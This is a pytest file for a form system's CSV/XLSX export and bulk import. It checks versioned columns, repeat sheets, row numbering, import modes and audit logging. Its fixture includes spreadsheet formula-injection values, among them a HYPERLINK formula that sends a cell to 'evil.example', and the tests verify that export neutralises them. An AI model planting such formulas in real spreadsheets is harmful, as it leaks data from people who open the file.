"""Export (CSV and XLSX) and bulk import of a form's submissions, on SQLite and PostgreSQL: every
column of every version, meta columns, repeats on their own sheet, formula-like answers
neutralised; rows read as the spreadsheet numbers them; imports all-or-nothing or valid rows
only, with refused rows reported; an exported file imports back into the same form."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import openpyxl
import pytest
from sqlalchemy import select

from pulih.database import make_engine, read_session, write_session
from pulih.i18n import Translatable
from pulih.models import AuditLog, Participant, Submission
from pulih.services import forms as form_service
from pulih.services import submission_io as sio
from pulih.services import submissions as svc
from pulih.services.entity_binding import Context
from tests.engine.test_loader import md_to_yaml
from tests.services.test_submissions import (  # noqa: F401 - the autouse fixture applies here too
    INTAKE, NIK, SKILLS, _library_parsed_once, count, publish, setup_world, submit,
)

CONDITION = "This answer does not meet the question's condition. Check it and correct it."
NO_ENROLLMENT = "Choose the participant and cohort first: this form is recorded on an enrollment."
META = ["submission_id", "uuid", "form_version", "submitted_by", "created_at", "updated_at", "source",
        "participant_id", "enrollment_id"]
HOUSEHOLD_V1 = """
| survey   |
|          | type         | name    | label   | required | constraint |
|          | text         | name    | Name    | yes      |            |
|          | integer      | age     | Age     | yes      | . >= 0     |
|          | text         | old_q   | Old     |          |            |
|          | begin repeat | kids    | Kids    |          |            |
|          | text         | kid     | Kid     | yes      |            |
|          | integer      | kid_age | Kid age |          |            |
|          | end repeat   |         |         |          |            |
| settings |
|          | form_id   | form_title | version | entity |
|          | household | Household  | 1       | none   |
"""
HOUSEHOLD_V2 = """
| survey   |
|          | type         | name    | label   | required | constraint |
|          | text         | name    | Name    | yes      |            |
|          | integer      | age     | Age     | yes      | . >= 18    |
|          | text         | new_q   | New     |          |            |
|          | begin repeat | kids    | Kids    |          |            |
|          | text         | kid     | Kid     | yes      |            |
|          | integer      | kid_age | Kid age |          |            |
|          | end repeat   |         |         |          |            |
| settings |
|          | form_id   | form_title | version | entity |
|          | household | Household  | 2       | none   |
"""
HOSTILE = {"name": '=HYPERLINK("http://evil.example/?"&A1, "klik")', "age": 40, "old_q": "+1",
           "kids": [{"kid": "@SUM(1+1)", "kid_age": -1}, {"kid": "-2"}, {"kid": "\tTab", "kid_age": 3}]}


@pytest.fixture
def world(engine):  # noqa: ANN001, ANN201
    return setup_world(engine)


@pytest.fixture
def two_versions(engine, world) -> tuple[int, int]:  # noqa: ANN001
    """A household submission filled with version 1 (has old_q, hostile answers, three kids) and one
    with version 2 (has new_q, no kids)."""
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    first = submit(engine, "household", HOSTILE)
    publish(engine, md_to_yaml(HOUSEHOLD_V2))
    second = submit(engine, "household", {"name": "Budi", "age": 30, "new_q": "baru"}, username="staff2")
    return first.id, second.id


def export(engine, form_id: str, fmt: str) -> bytes:  # noqa: ANN001
    with read_session(engine) as s:
        return sio.export_csv(s, form_id) if fmt == "csv" else sio.export_xlsx(s, form_id)


def csv_rows(data: bytes) -> tuple[list[str], list[dict]]:
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads Indonesian names right
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return list(reader.fieldnames), list(reader)


def sheets(data: bytes) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}


# --------------------------------------------------------------------------- export

def test_export_csv_every_column_of_every_version__ok(engine, two_versions):
    first, second = two_versions
    header, rows = csv_rows(export(engine, "household", "csv"))
    assert header == [*META, "name", "age", "new_q", "kids", "old_q"]  # newest version's order, then older columns
    a, b = rows
    assert (a["submission_id"], a["form_version"], a["submitted_by"], a["source"]) == (str(first), "1", "staff1", "web")
    assert (b["submission_id"], b["form_version"], b["submitted_by"]) == (str(second), "2", "staff2")
    assert (a["old_q"], a["new_q"], b["old_q"], b["new_q"]) == ("'+1", "", "", "baru")
    assert (a["age"], b["age"]) == ("40", "30")
    with read_session(engine) as s:
        created = s.get(Submission, first).created_at
    assert dt.datetime.fromisoformat(a["created_at"]) == created
    assert json.loads(a["kids"]) == HOSTILE["kids"]  # repeats as JSON in CSV (text inside JSON cannot run)
    assert json.loads(b["kids"]) == []


def test_export_xlsx_every_column_and_repeats_on_their_own_sheet__ok(engine, two_versions):
    first, second = two_versions
    book = sheets(export(engine, "household", "xlsx"))
    assert list(book) == ["household", "kids"]
    (header, a, b) = book["household"]
    assert header == [*META, "name", "age", "new_q", "kids", "old_q"]
    record = dict(zip(header, a))
    assert (record["submission_id"], record["form_version"], record["submitted_by"]) == (first, 1, "staff1")
    assert (record["age"], record["kids"], record["old_q"], record["new_q"]) == (40, 3, "'+1", None)
    assert isinstance(record["created_at"], dt.datetime)
    other = dict(zip(header, b))
    assert (other["submission_id"], other["form_version"], other["new_q"], other["old_q"]) == (second, 2, "baru", None)
    assert book["kids"] == [["submission_id", "row", "kid", "kid_age"],
                            [first, 1, "'@SUM(1+1)", -1], [first, 2, "'-2", None], [first, 3, "'\tTab", 3]]


def test_export_neutralises_formula_like_answers__ok(engine, two_versions):
    _, rows = csv_rows(export(engine, "household", "csv"))
    assert rows[0]["name"] == "'" + HOSTILE["name"] and rows[0]["old_q"] == "'+1"
    book = openpyxl.load_workbook(io.BytesIO(export(engine, "household", "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)  # nothing a spreadsheet would execute
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HOSTILE["name"] in texts and "'@SUM(1+1)" in texts and "'+1" in texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    kid_ages = [row[3].value for row in book["kids"].iter_rows(min_row=2)]
    assert kid_ages == [-1, None, 3]  # a negative number stays a number


def test_export_form_without_submissions__ok(engine, world):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    header, rows = csv_rows(export(engine, "household", "csv"))
    assert (header, rows) == ([*META, "name", "age", "old_q", "kids"], [])
    book = sheets(export(engine, "household", "xlsx"))
    assert book["household"] == [[*META, "name", "age", "old_q", "kids"]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_unknown_form__error(engine, world, fmt):
    with pytest.raises(Translatable) as caught:
        export(engine, "no_such_form", fmt)
    assert caught.value.key == "submission.unknown_form"


# --------------------------------------------------------------------------- reading files

def xlsx_of(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_of(rows: list[list]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8-sig")


SHEET = [["name", "age", "note", None],
         ["Ani", 30, "baru", None],
         [None, None, None, None],  # an empty row in the sheet: skipped, numbering kept
         ["Budi", 17, None, None]]


def test_read_rows_csv_numbers_rows_like_the_sheet__ok():
    rows = sio.read_rows(csv_of([[c if c is not None else "" for c in r] for r in SHEET]), "Isian.CSV")
    assert rows == [(2, {"name": "Ani", "age": "30", "note": "baru"}), (4, {"name": "Budi", "age": "17"})]


def test_read_rows_xlsx_numbers_rows_like_the_sheet__ok():
    rows = sio.read_rows(xlsx_of(SHEET), "isian.xlsx")
    assert rows == [(2, {"name": "Ani", "age": 30, "note": "baru"}), (4, {"name": "Budi", "age": 17})]


def test_read_rows_csv_from_excel_in_an_indonesian_locale__ok():
    """Excel with Indonesian regional settings saves "CSV" with semicolons, in the Windows code page."""
    data = "nama;umur;kota\r\nJosé Gunawan;30;Serang, Banten\r\n".encode("cp1252")
    assert sio.read_rows(data, "isian.csv") == [(2, {"nama": "José Gunawan", "umur": "30", "kota": "Serang, Banten"})]


@pytest.mark.parametrize("data", [b"not a workbook", b"PK\x03\x04 broken zip", csv_of([["name"], ["Ani"]])])
def test_read_rows_broken_xlsx__error(data):
    with pytest.raises(Translatable) as caught:
        sio.read_rows(data, "isian.xlsx")
    assert caught.value.key == "import.bad_file_type" and "'isian.xlsx'" in caught.value.message("en")


def test_read_rows_unsupported_file__error():
    with pytest.raises(Translatable) as caught:
        sio.read_rows(b"name\nAni\n", "isian.ods")
    assert caught.value.key == "import.bad_file_type" and "CSV or XLSX" in caught.value.message("en")


def test_read_rows_too_many__error(monkeypatch):
    monkeypatch.setattr(sio, "MAX_IMPORT_ROWS", 2)
    with pytest.raises(Translatable) as caught:
        sio.read_rows(csv_of([["name"], ["a"], ["b"], ["c"]]), "big.csv")
    assert caught.value.key == "import.too_many_rows"


# --------------------------------------------------------------------------- import

def rows_for_import(fmt: str) -> list[tuple[int, dict]]:
    """Three rows for household version 1; the one on sheet row 3 has two wrong answers."""
    table = [["name", "age", "kids"],
             ["Ani", 30, json.dumps([{"kid": "Citra", "kid_age": 4}])],
             ["", -5, ""],
             ["Dedi", "41", ""]]
    data = xlsx_of(table) if fmt == "xlsx" else csv_of(table)
    return sio.read_rows(data, f"rows.{fmt}")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_all_or_nothing_refuses_everything__error(engine, world, fmt):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    audits = count(engine, AuditLog)
    with pytest.raises(sio.ImportRefused) as caught, write_session(engine) as s:
        sio.import_rows(s, "staff1", "household", rows_for_import(fmt), mode="all", lang="en")
    report = caught.value.report
    assert (report.mode, report.total, report.saved, report.ok) == ("all", 3, [], False)
    assert list(report.refused) == [3] and set(report.refused[3]) == {"name", "age"}
    message = caught.value.message("en")
    assert "1 of 3 rows were refused" in message and "nothing was saved" in message
    assert count(engine, Submission) == 0  # the caller's transaction rolled back the good rows too
    assert count(engine, AuditLog) == audits


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_valid_rows_only__ok(engine, world, fmt):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    with write_session(engine) as s:
        report = sio.import_rows(s, "staff1", "household", rows_for_import(fmt), mode="valid", lang="en")
    assert (report.mode, report.total, len(report.saved), report.ok) == ("valid", 3, 2, False)
    assert report.refused == {3: {"name": "This question is required.", "age": CONDITION}}
    with read_session(engine) as s:
        saved = s.scalars(select(Submission).where(Submission.id.in_(report.saved)).order_by(Submission.id)).all()
        assert [x.data for x in saved] == [{"name": "Ani", "age": 30, "kids": [{"kid": "Citra", "kid_age": 4}]},
                                           {"name": "Dedi", "age": 41}]
        assert {x.source for x in saved} == {"import"}
        audit = s.scalars(select(AuditLog).where(AuditLog.action == "submission.import")).one()
    assert audit.username == "staff1"
    assert audit.details == {"form_id": "household", "mode": "valid", "saved": 2, "refused": [3]}


def test_import_all_valid_rows__ok(engine, world):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    rows = [(2, {"name": "Ani", "age": "30"}), (3, {"name": "Budi", "age": "31", "kids": "[]"})]
    with write_session(engine) as s:
        report = sio.import_rows(s, "staff1", "household", rows, mode="all")
    assert report.ok and len(report.saved) == 2 and count(engine, Submission) == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_file_imports_back__ok(engine, world, fmt):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    originals = [HOSTILE, {"name": "Budi", "age": 30, "old_q": "007"},
                 {"name": "Citra", "age": 0, "kids": [{"kid": "Eka"}]}]
    ids = [submit(engine, "household", answers).id for answers in originals]
    data = export(engine, "household", fmt)
    with write_session(engine) as s:
        report = sio.import_rows(s, "staff2", "household", sio.read_rows(data, f"household.{fmt}"), mode="all")
    assert report.ok and len(report.saved) == 3
    with read_session(engine) as s:
        before = [s.get(Submission, i).data for i in ids]
        after = [s.get(Submission, i).data for i in report.saved]
    assert after == before == [HOSTILE, originals[1], originals[2]]  # answers exactly as typed, apostrophes gone


def test_import_attaches_rows_to_their_enrollment__ok(engine, world):
    rows = [(2, {**SKILLS, "enrollment_id": str(world.enrollments[1])}), (3, dict(SKILLS)),
            (4, {**SKILLS, "enrollment_id": "999999"})]
    with write_session(engine) as s:
        report = sio.import_rows(s, "staff1", "skills_test", rows, mode="valid", lang="en")
    assert len(report.saved) == 1
    assert report.refused == {3: {"_row": NO_ENROLLMENT}, 4: {"_row": NO_ENROLLMENT}}
    with read_session(engine) as s:
        saved = s.get(Submission, report.saved[0])
    assert (saved.enrollment_id, saved.participant_id, saved.data["total_score"]) == (
        world.enrollments[1], world.participants[1], 65)


def test_import_intake_duplicate_row_leaves_no_trace__ok(engine, world):
    """A row refused by its binding (a known NIK) after the submission row was added: that row
    leaves nothing behind, the other rows are saved."""
    other = {**INTAKE, "nik": "3603120705900098", "full_name": "Sandi Pratama"}
    rows = [(2, dict(INTAKE)), (3, {**INTAKE, "full_name": "Rudi Lagi"}), (4, other)]
    with write_session(engine) as s:
        report = sio.import_rows(s, "staff1", "intake", rows, mode="valid", lang="en")
    assert len(report.saved) == 2 and list(report.refused) == [3]
    assert "already registered" in report.refused[3]["_row"]
    assert count(engine, Submission) == 2
    assert count(engine, Participant, Participant.nik == NIK) == 1
    assert count(engine, Participant, Participant.full_name == "Rudi Lagi") == 0
    with read_session(engine) as s:
        assert {x.participant_id for x in s.scalars(select(Submission))} == set(
            s.scalars(select(Participant.id).where(Participant.nik.in_([NIK, other["nik"]]))))


@pytest.mark.parametrize(("form_id", "mode", "key"), [("household", "some", "import.bad_mode"),
                                                       ("no_such_form", "all", "submission.form_not_published")])
def test_import_refused_before_any_row__error(engine, world, form_id, mode, key):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    with pytest.raises(Translatable) as caught, write_session(engine) as s:
        sio.import_rows(s, "staff1", form_id, [(2, {"name": "Ani", "age": 3})], mode=mode)
    assert caught.value.key == key
    assert count(engine, Submission) == 0


def test_import_by_a_viewer_refuses_every_row__error(engine, world):
    publish(engine, md_to_yaml(HOUSEHOLD_V1))
    with pytest.raises(sio.ImportRefused) as caught, write_session(engine) as s:
        sio.import_rows(s, "viewer1", "household", [(2, {"name": "Ani", "age": 3})], mode="all", lang="en")
    assert "may not save" in caught.value.report.refused[2]["_row"]
    assert count(engine, Submission) == 0


def test_import_uses_a_context_function__ok(engine, world):
    with write_session(engine) as s:
        report = sio.import_rows(s, "staff1", "skills_test", [(2, dict(SKILLS))], mode="all",
                                 context_of=lambda row: Context(enrollment_id=world.enrollments[0]))
    with read_session(engine) as s:
        assert s.get(Submission, report.saved[0]).enrollment_id == world.enrollments[0]


def test_demo_forms_export_and_import_back__ok(demo_db):
    """Every form of the demo exports to CSV and XLSX, one row per submission, and the files import
    back into their form without a refused row (checked, then rolled back)."""
    engine = make_engine(demo_db)
    with read_session(engine) as s:
        form_ids = [f.form_id for f in form_service.list_forms(s)]
        totals = {form_id: svc.browse(s, form_id).total for form_id in form_ids}
        files = {form_id: (sio.export_csv(s, form_id), sio.export_xlsx(s, form_id)) for form_id in form_ids}
    assert set(form_ids) >= {"intake", "skills_test", "self_esteem", "handover", "followup"}
    assert totals["skills_test"] > 0 and totals["self_esteem"] > 0
    for form_id, (csv_data, xlsx_data) in files.items():
        for data, name in ((csv_data, "x.csv"), (xlsx_data, "x.xlsx")):
            rows = sio.read_rows(data, name)
            assert len(rows) == totals[form_id], (form_id, name)
            with pytest.raises(RuntimeError), write_session(engine) as s:
                report = sio.import_rows(s, "system", form_id, rows, mode="valid", lang="en")
                assert (report.refused, len(report.saved)) == ({}, totals[form_id]), (form_id, name)
                raise RuntimeError("roll back")
    with read_session(engine) as s:
        assert {form_id: svc.browse(s, form_id).total for form_id in form_ids} == totals
    engine.dispose()
